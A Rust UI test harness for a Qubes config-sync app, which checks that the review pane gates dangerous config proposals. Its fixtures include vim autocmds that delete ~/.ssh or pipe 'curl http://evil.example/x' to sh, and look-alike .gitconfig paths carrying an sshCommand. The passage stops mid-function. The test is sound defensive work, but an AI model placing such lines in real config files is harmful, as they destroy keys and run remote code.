//! The UI harness: the real app against the demo world and the real backend on a
//! private bus, driven like a user would — open a qube, change its settings, edit a
//! profile, plan and push, open the proposal, read its findings, acknowledge them,
//! accept one hunk — and checked through the backend's D-Bus API. It writes the
//! screenshots of the README (`QCS_UPDATE_SCREENSHOTS=1` writes them to
//! `docs/screenshots/`, otherwise to the target directory).
//!
//! GTK runs on one thread, so this is one `harness = false` test binary with one
//! scenario. Without a display it runs itself again under `xvfb-run -a`, so a plain
//! `cargo test` works on a headless machine.

mod common;
// Moves to tests/ui/ as a plain `mod review_layout;` once the harness is split there.
#[path = "ui/review_layout.rs"]
mod review_layout;

use std::os::unix::fs::OpenOptionsExt;
use std::path::PathBuf;
use std::process::{Command, ExitCode};
use std::time::{Duration, Instant};

use adw::prelude::*;
use gtk::glib;
use qcs_client::ConfigSyncProxy;
use qcs_client::types::QubeList;
use qubes_config_sync::application::QcsApplication;
use qubes_config_sync::demo::{self, Demo, GITCONFIG};
use qubes_config_sync::model::qube::Badge;
use qubes_config_sync::model::three_way::RegionKind;
use qubes_config_sync::widgets::SidebarItem;
use qubes_config_sync::window::QcsWindow;

const INNER: &str = "QCS_UI_TEST_INNER";

/// A desktop on the test's session bus: a StatusNotifierWatcher with a host (as Xfce's
/// panel is) and a notification server, recording what the app sends them.
mod fake_desktop {
    use std::collections::HashMap;
    use std::sync::{Arc, Mutex};

    use zbus::zvariant::OwnedValue;

    #[derive(Debug, Clone, Default)]
    pub struct Seen {
        /// Services that registered a tray item.
        pub items: Arc<Mutex<Vec<String>>>,
        /// (summary, body) of each notification.
        pub notifications: Arc<Mutex<Vec<(String, String)>>>,
    }

    impl Seen {
        pub fn notifications(&self) -> Vec<(String, String)> {
            self.notifications.lock().expect("lock").clone()
        }
        pub fn items(&self) -> Vec<String> {
            self.items.lock().expect("lock").clone()
        }
    }

    struct Watcher(Seen);

    #[zbus::interface(name = "org.kde.StatusNotifierWatcher")]
    impl Watcher {
        fn register_status_notifier_item(&self, service: &str) {
            self.0.items.lock().expect("lock").push(service.to_owned());
        }
        fn register_status_notifier_host(&self, _service: &str) {}
        #[zbus(property)]
        fn registered_status_notifier_items(&self) -> Vec<String> {
            self.0.items()
        }
        #[zbus(property)]
        fn is_status_notifier_host_registered(&self) -> bool {
            true
        }
        #[zbus(property)]
        fn protocol_version(&self) -> i32 {
            0
        }
    }

    struct Notifications(Seen);

    #[zbus::interface(name = "org.freedesktop.Notifications")]
    impl Notifications {
        #[allow(clippy::too_many_arguments)]
        fn notify(
            &self,
            _app_name: &str,
            _replaces_id: u32,
            _app_icon: &str,
            summary: &str,
            body: &str,
            _actions: Vec<String>,
            _hints: HashMap<String, OwnedValue>,
            _expire_timeout: i32,
        ) -> u32 {
            let mut seen = self.0.notifications.lock().expect("lock");
            seen.push((summary.to_owned(), body.to_owned()));
            u32::try_from(seen.len()).unwrap_or(u32::MAX)
        }
        fn close_notification(&self, _id: u32) {}
        fn get_capabilities(&self) -> Vec<String> {
            vec!["body".into(), "actions".into()]
        }
        fn get_server_information(&self) -> (String, String, String, String) {
            (
                "fake".into(),
                "qubes-config-sync tests".into(),
                "1".into(),
                "1.2".into(),
            )
        }
    }

    /// Serve both on the bus at `address`; they live as long as the connection.
    pub fn serve(address: &str) -> (zbus::Connection, Seen) {
        let seen = Seen::default();
        let connection = zbus::block_on(async {
            let connection = zbus::connection::Builder::address(address)?
                .serve_at("/StatusNotifierWatcher", Watcher(seen.clone()))?
                .serve_at(
                    "/org/freedesktop/Notifications",
                    Notifications(seen.clone()),
                )?
                .build()
                .await?;
            connection
                .request_name("org.kde.StatusNotifierWatcher")
                .await?;
            connection
                .request_name("org.freedesktop.Notifications")
                .await?;
            Ok::<_, zbus::Error>(connection)
        })
        .expect("the fake desktop serves");
        (connection, seen)
    }

    /// Bus names of registered tray items still present on the bus.
    pub fn live_items(address: &str) -> Vec<String> {
        zbus::block_on(async {
            let connection = zbus::connection::Builder::address(address)?.build().await?;
            let dbus = zbus::fdo::DBusProxy::new(&connection).await?;
            let names = dbus.list_names().await?;
            Ok::<_, zbus::Error>(
                names
                    .into_iter()
                    .map(|n| n.to_string())
                    .filter(|n| n.starts_with("org.kde.StatusNotifierItem-"))
                    .collect(),
            )
        })
        .expect("list the bus names")
    }
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().collect();
    if args.iter().any(|a| a == "--list") {
        println!("ui_scenario: test");
        return ExitCode::SUCCESS;
    }
    let has_display =
        std::env::var_os("DISPLAY").is_some() || std::env::var_os("WAYLAND_DISPLAY").is_some();
    if !has_display && std::env::var_os(INNER).is_none() {
        return rerun_under_xvfb(&args);
    }
    println!("running 1 test");
    scenario();
    println!("test ui_scenario ... ok\n\ntest result: ok. 1 passed; 0 failed");
    ExitCode::SUCCESS
}

fn rerun_under_xvfb(args: &[String]) -> ExitCode {
    let exe = std::env::current_exe().expect("test executable path");
    let status = Command::new("xvfb-run")
        .args(["-a", "-s", "-screen 0 1600x1000x24"])
        .arg(exe)
        .args(&args[1..])
        .env(INNER, "1")
        .status();
    match status {
        Ok(status) if status.success() => ExitCode::SUCCESS,
        Ok(status) => {
            eprintln!("ui test under xvfb-run failed: {status}");
            ExitCode::FAILURE
        }
        Err(e) => {
            // Not a pass: say loudly what is missing.
            eprintln!("ui test: no display and xvfb-run cannot run ({e}); install xvfb and xauth");
            ExitCode::FAILURE
        }
    }
}

/// Run the main loop until `done` holds. The limit only stops a hung test; nothing
/// here measures time.
fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    let context = glib::MainContext::default();
    let limit = Instant::now() + Duration::from_secs(180);
    while !done() {
        assert!(Instant::now() < limit, "gave up waiting for {what}");
        if !context.iteration(false) {
            std::thread::sleep(Duration::from_millis(5));
        }
    }
}

/// Let pending redraws and layouts run.
fn settle() {
    let context = glib::MainContext::default();
    for _ in 0..40 {
        while context.iteration(false) {}
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn screenshot_dir() -> PathBuf {
    if std::env::var_os("QCS_UPDATE_SCREENSHOTS").is_some() {
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("docs/screenshots")
    } else {
        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("screenshots")
    }
}

/// Render a window to a PNG, as it is on screen.
fn screenshot(window: &impl IsA<gtk::Widget>, name: &str) -> PathBuf {
    let widget = window.as_ref();
    wait_until("the window to be mapped", || widget.is_mapped());
    settle();
    let paintable = gtk::WidgetPaintable::new(Some(widget));
    let snapshot = gtk::Snapshot::new();
    paintable.snapshot(
        snapshot.upcast_ref::<gtk::gdk::Snapshot>(),
        f64::from(widget.width()),
        f64::from(widget.height()),
    );
    let node = snapshot.to_node().expect("the window drew something");
    let renderer = widget
        .native()
        .and_then(|n| n.renderer())
        .expect("a realized window has a renderer");
    let texture = renderer.render_texture(&node, None);
    let dir = screenshot_dir();
    std::fs::create_dir_all(&dir).expect("screenshot directory");
    let path = dir.join(name);
    texture.save_to_png(&path).expect("write the screenshot");
    println!("screenshot: {}", path.display());
    path
}

/// The text entries inside a widget, in order.
fn entries_of(root: &gtk::Widget) -> Vec<gtk::Entry> {
    let mut found = Vec::new();
    let mut child = root.first_child();
    while let Some(widget) = child {
        if let Some(entry) = widget.downcast_ref::<gtk::Entry>() {
            found.push(entry.clone());
        } else {
            found.extend(entries_of(&widget));
        }
        child = widget.next_sibling();
    }
    found
}

/// A blocking D-Bus call for the checks: through the same API the app uses.
fn backend<T>(address: &str, call: impl AsyncFnOnce(&ConfigSyncProxy<'static>) -> T) -> T {
    zbus::block_on(async {
        let (_connection, proxy) = qcs_client::connect_to(address)
            .await
            .expect("connect to the demo bus");
        call(&proxy).await
    })
}

fn qube_list(address: &str) -> QubeList {
    let json = backend(address, async |p| p.list_qubes().await.expect("ListQubes"));
    serde_json::from_str(&json).expect("QubeList")
}

/// Run one named step of the scenario: its name is printed first, and again if it fails.
fn step<T>(name: &str, run: impl FnOnce() -> T) -> T {
    struct Guard<'a>(&'a str);
    impl Drop for Guard<'_> {
        fn drop(&mut self) {
            if std::thread::panicking() {
                eprintln!("step FAILED: {}", self.0);
            }
        }
    }
    println!("step: {name}");
    let guard = Guard(name);
    let started = Instant::now();
    let value = run();
    drop(guard);
    println!("step done in {:.1} s", started.elapsed().as_secs_f64());
    value
}

/// A named step of the scenario's main line, without a closure: `begin` prints its
/// name, `end` its time; a failure in between prints the name again.
struct Step {
    name: &'static str,
    started: Instant,
}

fn begin(name: &'static str) -> Step {
    println!("step: {name}");
    Step {
        name,
        started: Instant::now(),
    }
}

impl Step {
    fn end(self) {
        println!("step done in {:.1} s", self.started.elapsed().as_secs_f64());
        std::mem::forget(self);
    }
}

impl Drop for Step {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("step FAILED: {}", self.name);
        }
    }
}

/// The ids of the pending proposals, from the backend.
fn pending_ids(address: &str) -> Vec<i64> {
    let json = backend(address, async |p| {
        p.list_proposals("pending").await.expect("ListProposals")
    });
    let list: qcs_client::types::ProposalList = serde_json::from_str(&json).expect("ProposalList");
    list.proposals.into_iter().map(|p| p.id).collect()
}

/// Where a widget lies in the window: (left, right) edges.
fn horizontal_extent(widget: &impl IsA<gtk::Widget>, window: &QcsWindow) -> (f32, f32) {
    let bounds = widget
        .as_ref()
        .compute_bounds(window)
        .expect("the widget is inside the window");
    (bounds.x(), bounds.x() + bounds.width())
}

/// Every hunk header on screen shows the model's decision; the hunks checked.
fn assert_headers_show_state(view: &qubes_config_sync::widgets::QcsDiffView) -> Vec<usize> {
    use qubes_config_sync::model::review::HunkDecision;
    let decisions = view.decisions();
    let bound = view.bound_hunks();
    for &hunk in &bound {
        let (accept, reject) = view.hunk_toggles(hunk).expect("a bound header has toggles");
        let shown = match (accept.is_active(), reject.is_active()) {
            (true, false) => HunkDecision::Accept,
            (false, true) => HunkDecision::Reject,
            (false, false) => HunkDecision::Undecided,
            (true, true) => panic!("hunk {hunk} shows both Accept and Reject"),
        };
        assert_eq!(
            shown, decisions[hunk],
            "hunk {hunk}: the row shows another decision"
        );
    }
    bound
}

/// Scroll the diff from its top to its bottom a page at a time through its adjustment,
/// letting the list bind the rows of each page, and check every header bound on the
/// way. Returns the hunks whose header was on screen.
///
/// (A single jump from the top straight to the end, right after "mark all" with no
/// frame in between, left GTK 4.8's list view showing its first rows with the
/// adjustment at the end — no row rebound in 40 s; page steps bind as they go.)
fn scroll_through(
    view: &qubes_config_sync::widgets::QcsDiffView,
) -> std::collections::BTreeSet<usize> {
    let context = glib::MainContext::default();
    view.scroll_to(0.0);
    let adjustment = view.vadjustment();
    let mut seen = std::collections::BTreeSet::new();
    let limit = Instant::now() + Duration::from_secs(180);
    loop {
        // The list binds the rows of a new scroll position on its next frames; on a
        // loaded machine those can come after any number of idle iterations, so wait
        // for the frames themselves.
        wait_frames(view, 3);
        while context.iteration(false) {}
        seen.extend(assert_headers_show_state(view));
        let end = adjustment.upper() - adjustment.page_size();
        if adjustment.value() >= end {
            break;
        }
        assert!(Instant::now() < limit, "gave up scrolling to the end");
        adjustment.set_value((adjustment.value() + adjustment.page_size() * 0.9).min(end));
    }
    seen
}

/// Runs the main loop until `widget`'s frame clock has painted `frames` more frames (each
/// one asked for with a redraw), or 10 s passed.
fn wait_frames(widget: &impl IsA<gtk::Widget>, frames: i64) {
    let context = glib::MainContext::default();
    let Some(clock) = widget.frame_clock() else {
        while context.iteration(false) {}
        return;
    };
    let target = clock.frame_counter() + frames;
    let limit = Instant::now() + Duration::from_secs(10);
    while clock.frame_counter() < target && Instant::now() < limit {
        widget.queue_draw();
        // Wake the blocking iteration even if no frame is due.
        glib::timeout_add_local_once(Duration::from_millis(20), || {});
        context.iteration(true);
    }
}

/// The labels under `root` that carry CSS class `class`.
fn labels_with_class(root: &gtk::Widget, class: &str) -> Vec<gtk::Label> {
    let mut found = Vec::new();
    let mut child = root.first_child();
    while let Some(widget) = child {
        if let Some(label) = widget.downcast_ref::<gtk::Label>()
            && label.has_css_class(class)
        {
            found.push(label.clone());
        }
        found.extend(labels_with_class(&widget, class));
        child = widget.next_sibling();
    }
    found
}

/// The attacks of issue 17 on the review pane, through the real backend.
struct TrustGate<'a> {
    window: &'a QcsWindow,
    review: &'a qubes_config_sync::widgets::QcsReviewPane,
    address: &'a str,
    spool: PathBuf,
    seen: &'a fake_desktop::Seen,
}

impl TrustGate<'_> {
    /// Spool one proposal, ingest it and wait until the app lists it; its id.
    fn propose(&self, qube: &str, profile: &str, path: &str, content: &[u8], note: &str) -> i64 {
        let before: Vec<i64> = pending_ids(self.address);
        demo::spool_proposal(&self.spool, qube, profile, path, content, note)
            .expect("spool a proposal");
        backend(self.address, async |p| {
            p.ingest_spool().await.expect("IngestSpool")
        });
        let id = pending_ids(self.address)
            .into_iter()
            .find(|id| !before.contains(id))
            .unwrap_or_else(|| panic!("the proposal of {path:?} was not taken in"));
        wait_until("the new proposal in the sidebar", || {
            self.window.pending_proposals().iter().any(|p| p.id == id)
        });
        id
    }

    /// Open a proposal and wait until its rows are all laid out.
    fn open(&self, id: i64) {
        self.window.open_proposal(id);
        wait_until("the proposal laid out", || {
            self.review.proposal_id() == Some(id) && self.review.diff_view().laid_out()
        });
    }

    fn decided_elsewhere(&self, id: i64) {
        assert_eq!(self.review.proposal_id(), Some(id));
        assert!(self.review.stale_message().is_none());
        backend(self.address, async |p| {
            p.reject_proposal(id, "from the CLI").await.expect("reject")
        });
        wait_until("the pane to say the proposal is gone", || {
            self.review
                .stale_message()
                .is_some_and(|m| m.contains("decided elsewhere"))
        });
        assert!(!self.review.accept_button().is_sensitive());
        assert!(!self.review.reject_button().is_sensitive());
        assert!(!self.review.reload_button().is_visible());
    }

    /// A .vimrc of 4 900 lines in the store; the proposal changes one character every
    /// seventh line (700 hunks) and hides an autocmd that runs a shell at line 3 502.
    fn nothing_before_layout(&self) -> i64 {
        let mut base = String::from("set nocompatible\n");
        for i in 1..4900 {
            base.push_str(&format!("\" note {i}\n"));
        }
        backend(self.address, async |p| {
            p.put_file("vim", ".vimrc", base.as_bytes(), 0o644)
                .await
                .expect("PutFile")
        });
        let proposed: String = base
            .lines()
            .enumerate()
            .map(|(i, line)| match i {
                700 => "autocmd BufRead * silent !sh -c 'rm -rf ~/.ssh'\n".to_owned(),
                3501 => "autocmd VimEnter * silent !sh -c 'curl http://evil.example/x | sh'\n"
                    .to_owned(),
                i if i % 7 == 3 => format!("{}x\n", line),
                _ => format!("{line}\n"),
            })
            .collect();
        let id = self.propose(
            "personal",
            "vim",
            ".vimrc",
            proposed.as_bytes(),
            "small tweaks",
        );
        let review = self.review;
        self.window.open_proposal(id);
        wait_until("the proposal on show", || review.proposal_id() == Some(id));
        // The rows are still being prepared: every way to decide is refused.
        assert!(
            !review.diff_view().laid_out(),
            "laid out at once: the test proves nothing"
        );
        assert!(!review.accept_all_button().is_sensitive());
        review.accept_all_button().emit_clicked();
        assert!(!review.decide_all(qubes_config_sync::model::review::HunkDecision::Accept));
        for (_, row) in review.finding_rows() {
            assert!(!row.ack_check().is_sensitive());
            row.ack_check().set_active(true);
            assert!(
                !row.ack_check().is_active(),
                "an unseen finding was acknowledged"
            );
        }
        WidgetExt::activate_action(self.window, "win.primary", None).expect("win.primary");
        review.accept();
        review.accept_button().emit_clicked();
        assert!(!review.can_accept());
        let undecided = |review: &qubes_config_sync::widgets::QcsReviewPane| {
            review
                .diff_view()
                .decisions()
                .iter()
                .all(|d| *d == qubes_config_sync::model::review::HunkDecision::Undecided)
        };
        assert!(undecided(review));
        wait_until("the layout", || review.diff_view().laid_out());
        settle();
        assert!(undecided(review), "a decision taken before layout survived");
        assert!(pending_ids(self.address).contains(&id), "accepted unseen");
        assert!(!review.can_accept());
        // A long line is in pieces; its text whole, per line.
        let rows = review.diff_view().rendered_lines();
        // (Changed blanks are tokens: `autocmd⟦SP⟧VimEnter`.)
        assert!(
            rows.iter()
                .any(|r| r.contains("autocmd") && r.contains("VimEnter") && r.contains("curl")),
            "the dangerous line is in the rows"
        );
        assert!(review.diff_view().decisions().len() >= 700);
        id
    }

    /// "Mark all" writes the one model of decisions; every hunk header, whenever it is
    /// on screen, shows that model. The diff is scrolled top to bottom a page at a time
    /// (as a user would), every header bound on the way is checked, and every one of
    /// the 700 headers must have been seen.
    fn mark_all_shows_state(&self) {
        use qubes_config_sync::model::review::HunkDecision;
        let review = self.review;
        let view = review.diff_view();
        assert!(view.laid_out());
        view.scroll_to(0.0);
        wait_until("the first header on screen", || {
            view.hunk_toggles(0).is_some()
        });
        let (accept, reject) = view.hunk_toggles(0).expect("toggles");
        assert!(!accept.is_active() && !reject.is_active());
        review.accept_all_button().emit_clicked();
        let decisions = view.decisions();
        assert!(decisions.iter().all(|d| *d == HunkDecision::Accept));
        assert!(accept.is_active() && !reject.is_active());
        let last = decisions.len() - 1;
        let seen = scroll_through(&view);
        assert_eq!(
            seen.len(),
            decisions.len(),
            "headers never on screen: {:?}",
            (0..decisions.len())
                .filter(|h| !seen.contains(h))
                .collect::<Vec<_>>()
        );
        // The last header is on screen now: undo it from its row; the model follows.
        let (accept, _) = view.hunk_toggles(last).expect("the last header is bound");
        assert!(accept.is_active());
        accept.set_active(false);
        assert_eq!(view.decisions()[last], HunkDecision::Undecided);
        assert!(
            view.decisions()[..last]
                .iter()
                .all(|d| *d == HunkDecision::Accept)
        );
        // "Reject all" from the bottom: rows back at the top show it when bound again.
        assert!(review.decide_all(HunkDecision::Reject));
        assert!(!accept.is_active());
        assert!(view.decisions().iter().all(|d| *d == HunkDecision::Reject));
        let seen = scroll_through(&view);
        assert_eq!(seen.len(), view.decisions().len());
        review.accept_all_button().emit_clicked();
        settle();
        assert_headers_show_state(&view);
    }

    /// Two gated findings of the same rule (the two shell autocmds): acknowledging one
    /// leaves the other open — in the pane, and in the backend, which refuses an accept
    /// naming only the first (acknowledgements are finding ids, not rules).
    fn acknowledgement_is_specific(&self, id: i64) {
        let review = self.review;
        assert_eq!(review.proposal_id(), Some(id));
        let json = backend(self.address, async |p| {
            p.get_proposal(id).await.expect("GetProposal")
        });
        let view: qcs_client::types::ProposalView =
            serde_json::from_str(&json).expect("ProposalView");
        let gated: Vec<_> = review
            .finding_rows()
            .into_iter()
            .filter(|(_, r)| r.ack_check().is_visible())
            .collect();
        assert!(gated.len() >= 2, "{} gated findings", gated.len());
        // Two gated findings sharing a rule: a rule-wide acknowledgement would cover both.
        let (first, second) = gated
            .iter()
            .flat_map(|a| gated.iter().map(move |b| (a, b)))
            .find(|(a, b)| a.0 != b.0 && view.findings[a.0].rule == view.findings[b.0].rule)
            .expect("two gated findings of one rule");
        first.1.ack_check().set_active(true);
        assert!(first.1.ack_check().is_active());
        assert!(!second.1.ack_check().is_active());
        assert!(!review.can_accept(), "one acknowledgement opened the gate");
        WidgetExt::activate_action(self.window, "win.primary", None).expect("win.primary");
        settle();
        assert!(pending_ids(self.address).contains(&id));
        // The backend, asked directly with the first finding's id only, refuses and
        // names the second.
        let first_id = view.findings[first.0].id.clone();
        let second_id = view.findings[second.0].id.clone();
        assert_ne!(first_id, second_id);
        let refused = backend(self.address, async |p| {
            p.accept_proposal(id, &view.digest, &[], &[first_id.as_str()], "")
                .await
        });
        match refused {
            Err(qcs_client::Error::ReviewRefused(message)) => {
                let refusal = qcs_client::types::ReviewRefusal::parse(&message);
                assert_eq!(refusal.code.as_str(), "review.unacknowledged", "{message}");
                assert!(refusal.ids.contains(&second_id), "{message}");
            }
            other => panic!("the backend took one acknowledgement for two: {other:?}"),
        }
        assert!(pending_ids(self.address).contains(&id));
        for (_, row) in &gated {
            row.ack_check().set_active(true);
        }
        assert!(review.can_accept());
    }

    /// The store moves on between what the pane showed and the accept.
    fn store_changed(&self, id: i64) {
        let review = self.review;
        assert!(review.can_accept());
        let (content, _, _) = backend(self.address, async |p| {
            p.get_file("vim", ".vimrc").await.expect("GetFile")
        });
        let mut moved = b"\" the store moved on\n".to_vec();
        moved.extend_from_slice(&content);
        // No main-loop turn between the change and the click: the pane cannot know yet.
        backend(self.address, async |p| {
            p.put_file("vim", ".vimrc", &moved, 0o644)
                .await
                .expect("PutFile")
        });
        review.accept();
        wait_until("the pane to say the review is out of date", || {
            review.stale_message().is_some()
        });
        let message = review.stale_message().expect("a message");
        assert!(
            message.contains("changed"),
            "the refusal in words: {message}"
        );
        assert!(!review.can_accept());
        assert!(
            pending_ids(self.address).contains(&id),
            "accepted a stale review"
        );
        let (now, _, _) = backend(self.address, async |p| {
            p.get_file("vim", ".vimrc").await.expect("GetFile")
        });
        assert_eq!(now, moved, "the store holds what was put, nothing accepted");
        // The pane re-opens the review as it is now: the new first line is context.
        wait_until("the review re-opened on the new base", || {
            review.diff_view().laid_out()
                && review
                    .diff_view()
                    .rendered_rows()
                    .iter()
                    .any(|r| r.contains("the store moved on"))
        });
        review.reload();
        wait_until("the reloaded review", || {
            review.stale_message().is_none() && review.diff_view().laid_out()
        });
        assert!(!review.can_accept(), "decisions start over");
        // Decided elsewhere: rejected from outside while open.
        backend(self.address, async |p| {
            p.reject_proposal(id, "done").await.expect("reject")
        });
        wait_until("the pane to say it is gone", || {
            review
                .stale_message()
                .is_some_and(|m| m.contains("decided elsewhere"))
        });
    }

    /// The proposal on show has a critical `path.confusable` finding naming `imitated`,
    /// listed in the pane with its acknowledgement box (gated).
    fn confusable_is_critical(&self, id: i64, imitated: &str) {
        assert_eq!(self.review.proposal_id(), Some(id));
        let json = backend(self.address, async |p| {
            p.get_proposal(id).await.expect("GetProposal")
        });
        let view: qcs_client::types::ProposalView =
            serde_json::from_str(&json).expect("ProposalView");
        let index = view
            .findings
            .iter()
            .position(|f| f.rule == "path.confusable")
            .unwrap_or_else(|| panic!("no path.confusable finding: {:#?}", view.findings));
        let finding = &view.findings[index];
        assert_eq!(finding.severity, qcs_client::types::Severity::Critical);
        assert!(finding.gated);
        assert!(
            finding.message.contains(imitated),
            "names the imitated path: {}",
            finding.message
        );
        let rows = self.review.finding_rows();
        let (_, row) = rows
            .iter()
            .find(|(i, _)| *i == index)
            .expect("the finding is listed in the pane");
        assert!(row.ack_check().is_visible(), "gated in the pane");
        assert_eq!(
            rows.first()
                .map(|(i, _)| view.findings[*i].severity.as_str()),
            Some("critical"),
            "critical findings first"
        );
    }

    fn look_alikes(&self) {
        let cyrillic = ".g\u{456}tconfig";
        let trailing = ".gitconfig ";
        let content = b"[core]\n\t\xd1\x95shCommand = ssh -i /tmp/k\n";
        let a = self.propose("work", "git", cyrillic, content, "look-alike");
        let b = self.propose("work", "git", trailing, b"[user]\n\tname = A\n", "blank");
        let titles = self.window.proposal_row_titles();
        assert!(
            titles.contains(&format!("#{a} · .g\u{456}⟦U+0456⟧tconfig")),
            "{titles:?}"
        );
        assert!(
            titles.contains(&format!("#{b} · .gitconfig⟦SPACE⟧")),
            "{titles:?}"
        );
        assert!(
            !titles.iter().any(|t| t.ends_with("· .gitconfig")),
            "a look-alike shows as the real name: {titles:?}"
        );
        wait_until("the notifications with the marks", || {
            let bodies: Vec<String> = self
                .seen
                .notifications()
                .into_iter()
                .map(|(_, b)| b)
                .collect();
            bodies.iter().any(|b| b.contains("⟦U+0456⟧"))
                && bodies.iter().any(|b| b.contains(".gitconfig⟦SPACE⟧"))
        });
        self.open(a);
        assert!(
            self.review.title().contains("⟦U+0456⟧"),
            "{}",
            self.review.title()
        );
        let rows = self.review.diff_view().rendered_rows();
        assert!(
            rows.iter()
                .any(|r| r.contains("shCommand⟦mixed scripts U+0455⟧")),
            "{rows:#?}"
        );
        self.confusable_is_critical(a, ".gitconfig");
        self.open(b);
        self.confusable_is_critical(b, ".gitconfig");
        assert!(
            self.review.title().ends_with(".gitconfig⟦SPACE⟧"),
            "{}",
            self.review.title()
        );
        for id in [a, b] {
            backend(self.address, async |p| {
                p.reject_proposal(id, "test").await.expect("reject")
            });
        }
    }

    /// A submission of 64 files from one qube, the dangerous one last: one sidebar row
    /// with the risk marker of its worst file; opened as one unit, riskiest file first,
    /// every file listed.
    fn many_files(&self) {
        use qcs_protocol::{
            Content, Note, ObservedMode, ProposeRequest, ProposedFile, Version,
            path::validate_relative_path, profile::validate_profile_id, validate_vm_name,
        };
        backend(self.address, async |p| {
            p.allow_new_paths("vim", &[".config/qcs-notes/**"], true)
                .await
                .expect("AllowNewPaths")
        });
        let evil = ".vim/plugin/zz-evil.vim";
        let mut files = Vec::new();
        for i in 0..63 {
            let content = Content::new(format!("note {i}\n").into_bytes()).expect("content");
            files.push((format!(".config/qcs-notes/n{i:02}.txt"), content));
        }
        let content = Content::new(
            b"autocmd VimEnter * silent !sh -c 'curl http://evil.example/x | sh'\n".to_vec(),
        )
        .expect("content");
        files.push((evil.to_owned(), content));
        let request = ProposeRequest {
            version: Version,
            profile: validate_profile_id("vim").expect("profile"),
            files: files
                .into_iter()
                .map(|(path, content)| ProposedFile {
                    path: validate_relative_path(&path).expect("path"),
                    mode: ObservedMode::new(0o644),
                    sha256: content.sha256(),
                    content,
                    base_sha256: None,
                })
                .collect(),
            note: Some(Note::new("64 files".to_owned()).expect("note")),
        };
        let config = qcs_agent::spool::SpoolConfig {
            dir: self.spool.clone(),
            max_count: qcs_agent::spool::DEFAULT_MAX_COUNT,
            max_bytes: qcs_agent::spool::DEFAULT_MAX_BYTES,
        };
        let before = pending_ids(self.address);
        qcs_agent::spool::receive(
            &config,
            &validate_vm_name("personal").expect("qube"),
            &validate_profile_id("vim").expect("profile"),
            request,
        )
        .expect("the qube's 64 files are spooled");
        backend(self.address, async |p| {
            p.ingest_spool().await.expect("IngestSpool")
        });
        let new: Vec<i64> = pending_ids(self.address)
            .into_iter()
            .filter(|id| !before.contains(id))
            .collect();
        assert_eq!(new.len(), 64, "every file is a proposal");
        wait_until("the submission in the sidebar", || {
            new.iter()
                .all(|id| self.window.pending_proposals().iter().any(|p| p.id == *id))
        });
        let summaries: Vec<_> = self
            .window
            .pending_proposals()
            .into_iter()
            .filter(|p| new.contains(&p.id))
            .collect();
        let batch = summaries[0].batch;
        assert!(
            batch != 0 && summaries.iter().all(|p| p.batch == batch),
            "one submission"
        );
        let titles = self.window.proposal_row_titles();
        assert_eq!(
            titles.iter().filter(|t| t.contains("64 files")).count(),
            1,
            "one row for the submission: {titles:?}"
        );
        assert!(
            !titles
                .iter()
                .any(|t| t.contains("qcs-notes") || t.contains("zz-evil")),
            "files of the submission listed one by one: {titles:?}"
        );
        wait_until("the risk marker of the submission", || {
            labels_with_class(self.window.upcast_ref(), "batch-risk")
                .iter()
                .any(|l| {
                    l.has_css_class(qubes_config_sync::model::Severity::Critical.css_class())
                        && l.text()
                            .contains(qubes_config_sync::model::Severity::Critical.symbol())
                })
        });
        self.window.open_batch(batch);
        let evil_id = summaries
            .iter()
            .find(|p| p.path == evil)
            .map(|p| p.id)
            .expect("the dangerous file is a proposal");
        wait_until("the riskiest file opened first", || {
            self.review.proposal_id().is_some() && self.review.batch().len() == 64
        });
        let listed = self.review.batch();
        assert_eq!(
            self.review.proposal_id(),
            Some(evil_id),
            "opened first: {:?}",
            listed.first()
        );
        assert_eq!(listed[0].id, evil_id);
        let worst = listed[0].severity;
        assert_eq!(worst, Some(qubes_config_sync::model::Severity::Critical));
        assert!(
            listed.iter().skip(1).any(|f| f.severity < worst),
            "every file as severe as the dangerous one: the order proves nothing"
        );
        assert!(
            listed.windows(2).all(|w| w[0].severity >= w[1].severity),
            "riskiest first"
        );
        wait_until("its review laid out", || self.review.diff_view().laid_out());
        assert!(self.review.title().contains("zz-evil.vim"));
        for id in new {
            backend(self.address, async |p| {
                p.reject_proposal(id, "test").await.expect("reject")
            });
        }
    }

    fn long_things(&self) {
        let window = self.window;
        let review = self.review;
        let width = window.width();
        // 4 000 bytes of path in 16 components, one 256 KiB line, a 4 KiB note.
        let path = (0..16)
            .map(|i| format!("{i:02}{}", "p".repeat(247)))
            .collect::<Vec<_>>()
            .join("/");
        assert_eq!(path.len(), 3999);
        let mut line = vec![b'x'; 256 * 1024 - 1];
        line.push(b'\n');
        let note = "n".repeat(4096);
        let id = self.propose("personal", "vim", &path, &line, &note);
        // Scroll the last proposal's diff away first: the new one opens at its top.
        review
            .diff_view()
            .scroll_to(review.diff_view().vadjustment().upper());
        self.open(id);
        settle();
        assert_eq!(
            review.diff_view().vadjustment().value(),
            0.0,
            "opens at the top"
        );
        assert_eq!(review.findings_scroller().vadjustment().value(), 0.0);
        assert!(
            window.width() <= width,
            "the window grew: {} > {width}",
            window.width()
        );
        let (minimum, _, _, _) = window.measure(gtk::Orientation::Horizontal, -1);
        assert!(minimum <= width, "minimum width {minimum} > {width}");
        let width = window.width() as f32;
        for (name, control) in [
            ("Accept", review.accept_button().upcast::<gtk::Widget>()),
            ("Reject", review.reject_button().upcast()),
            ("Mark All Accepted", review.accept_all_button().upcast()),
            ("the pane", review.clone().upcast()),
        ] {
            let (left, right) = horizontal_extent(&control, window);
            assert!(
                left >= 0.0 && right <= width + 0.5,
                "{name} lies at {left}..{right}, the window is {width} wide"
            );
        }
        // The whole path is one click away; the title is cut to fit.
        assert_eq!(review.full_path(), path);
        // The line is all there, in pieces.
        let rows = review.diff_view().rendered_rows();
        let shown: usize = rows.iter().map(|r| r.matches('x').count()).sum();
        assert_eq!(shown, 256 * 1024 - 1, "every byte of the line is shown");
        // The note is collapsible and does not squeeze the diff.
        let (expander, label) = review.note();
        assert!(expander.is_visible() && label.text().len() >= 4096);
        assert!(
            review.diff_view().height() >= 150,
            "diff squeezed to {}",
            review.diff_view().height()
        );
        expander.set_expanded(false);
        settle();
        assert!(!label.is_mapped());
        screenshot(window, "review-pane-long.png");
        backend(self.address, async |p| {
            p.reject_proposal(id, "test").await.expect("reject")
        });
    }
}

fn scenario() {
    common::build_workspace_programs();
